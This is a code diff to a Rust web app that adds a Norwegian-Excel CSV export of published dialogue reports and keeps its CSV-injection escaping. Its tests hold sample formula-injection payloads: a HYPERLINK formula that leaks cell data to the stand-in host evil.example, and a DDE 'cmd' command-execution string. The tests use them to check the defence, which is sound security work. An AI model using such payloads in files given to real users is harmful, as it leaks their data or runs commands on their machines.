@@ -8,7 +8,7 @@ use crate::routes::pages::{Page, render};
 use askama::Template;
 use axum::Json;
 use axum::extract::{Path, Query, State};
-use axum::http::header;
+use axum::http::{HeaderMap, header};
 use axum::response::{IntoResponse, Response};
 use samla_app::public::PublicDialogue;
 use samla_db::dialogue::{self, Published, ReportFilter};
@@ -165,27 +165,64 @@ pub async fn page(
 /// read as a formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return, or
 /// their full-width forms) gets a leading apostrophe, so it is shown as text (OWASP's
 /// advice on CSV injection).
-fn csv_field(s: &str) -> String {
+fn csv_field(s: &str, separator: char) -> String {
     let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) {
         format!("'{s}")
     } else {
         s.to_owned()
     };
-    if s.contains([',', '"', '\n', '\r']) {
+    if s.contains([separator, '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
         s
     }
 }
 
+/// How the CSV file is written: for programs (commas, stable column ids) or for a
+/// spreadsheet in Norway (`?for=excel`: semicolons, which Norwegian Excel expects
+/// between fields because the comma is its decimal sign; a byte-order mark, so Excel
+/// reads UTF-8 and æøå come out right; column names in the reader's language).
+#[derive(Debug, Default, Deserialize)]
+pub struct CsvFor {
+    #[serde(default, rename = "for")]
+    target: String,
+}
+
+/// The columns: stable id and text key.
+const CSV_COLUMNS: [(&str, &str); 10] = [
+    ("id", "csv-col-id"),
+    ("embete", "col-embete"),
+    ("cycle_id", "csv-col-cycle-id"),
+    ("cycle", "csv-col-cycle"),
+    ("unit_number", "col-number"),
+    ("unit_name", "col-unit"),
+    ("unit_kind", "csv-col-unit-kind"),
+    ("published_on", "col-published"),
+    ("language", "csv-col-language"),
+    ("url", "csv-col-url"),
+];
+
 pub async fn csv(
     State(state): State<AppState>,
+    ctx: Ctx,
+    headers: HeaderMap,
     Query(q): Query<ReportsQuery>,
+    Query(target): Query<CsvFor>,
 ) -> Result<Response, AppError> {
     let reports = select(&state, &q).await?;
-    let mut out = String::from(
-        "id,embete,cycle_id,cycle,unit_number,unit_name,unit_kind,published_on,language,url\r\n",
-    );
+    let excel = target.target == "excel";
+    let separator = if excel { ';' } else { ',' };
+    // Links work where the file is opened, not only on this site.
+    let origin = crate::ctx::origin(&state.config, &headers);
+    let mut out = String::new();
+    if excel {
+        out.push('\u{FEFF}');
+    }
+    let names: Vec<String> = CSV_COLUMNS
+        .iter()
+        .map(|(id, key)| if excel { ctx.t(key) } else { (*id).to_owned() })
+        .collect();
+    push_row(&mut out, &names, separator);
     for r in &reports {
         let row = [
             r.id.to_string(),
@@ -197,27 +234,40 @@ pub async fn csv(
             r.unit_kind.as_str().to_owned(),
             r.published_on.clone(),
             r.language.clone().unwrap_or_default(),
-            r.url.clone(),
+            format!("{origin}{}", r.url),
         ];
-        out.push_str(
-            &row.iter()
-                .map(|f| csv_field(f))
-                .collect::<Vec<_>>()
-                .join(","),
-        );
-        out.push_str("\r\n");
+        push_row(&mut out, &row, separator);
     }
+    let filename = if excel {
+        "samla-dialograpporter-excel.csv"
+    } else {
+        "samla-dialograpporter.csv"
+    };
     Ok((
         [
-            (header::CONTENT_TYPE, "text/csv; charset=utf-8"),
+            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()),
             (
                 header::CONTENT_DISPOSITION,
-                "attachment; filename=\"samla-dialograpporter.csv\"",
+                format!("attachment; filename=\"{filename}\""),
             ),
+            (header::LINK, format!("<{LICENCE_URL}>; rel=\"license\"")),
         ],
         out,
     )
         .into_response())
+}
+
+/// The licence of every published report and of the open data made from them.
+pub const LICENCE_URL: &str = "https://data.norge.no/nlod/no/2.0";
+
+fn push_row(out: &mut String, fields: &[String], separator: char) {
+    for (i, f) in fields.iter().enumerate() {
+        if i > 0 {
+            out.push(separator);
+        }
+        out.push_str(&csv_field(f, separator));
+    }
+    out.push_str("\r\n");
 }
 
 /// Published dialogue reports, newest first (also as CSV at /reports.csv).
@@ -357,30 +407,37 @@ pub async fn one(
 
 #[cfg(test)]
 mod tests {
+    fn csv_field(s: &str) -> String {
+        super::csv_field(s, ',')
+    }
+
+    #[test]
+    fn for_excel_the_semicolon_is_what_is_quoted() {
+        assert_eq!(
+            super::csv_field("Østfold, Buskerud", ';'),
+            "Østfold, Buskerud"
+        );
+        assert_eq!(super::csv_field("a;b", ';'), "\"a;b\"");
+    }
+
     #[test]
     fn csv_fields_are_quoted_when_needed() {
-        assert_eq!(super::csv_field("Hurdal"), "Hurdal");
-        assert_eq!(
-            super::csv_field("Østfold, Buskerud"),
-            "\"Østfold, Buskerud\""
-        );
-        assert_eq!(super::csv_field("a \"b\""), "\"a \"\"b\"\"\"");
+        assert_eq!(csv_field("Hurdal"), "Hurdal");
+        assert_eq!(csv_field("Østfold, Buskerud"), "\"Østfold, Buskerud\"");
+        assert_eq!(csv_field("a \"b\""), "\"a \"\"b\"\"\"");
     }
 
     /// F9 of the security review: a cycle name that a spreadsheet would run.
     #[test]
     fn csv_fields_that_look_like_formulas_are_text() {
         assert_eq!(
-            super::csv_field("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Klikk her\")"),
+            csv_field("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Klikk her\")"),
             "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Klikk her\"\")\""
         );
-        assert_eq!(
-            super::csv_field("+cmd|' /C calc'!A0"),
-            "'+cmd|' /C calc'!A0"
-        );
-        assert_eq!(super::csv_field("-2+3"), "'-2+3");
-        assert_eq!(super::csv_field("@SUM(A1)"), "'@SUM(A1)");
-        assert_eq!(super::csv_field("＝1+1"), "'＝1+1");
-        assert_eq!(super::csv_field("2019-03-01"), "2019-03-01");
+        assert_eq!(csv_field("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+        assert_eq!(csv_field("-2+3"), "'-2+3");
+        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_field("＝1+1"), "'＝1+1");
+        assert_eq!(csv_field("2019-03-01"), "2019-03-01");
     }
 }
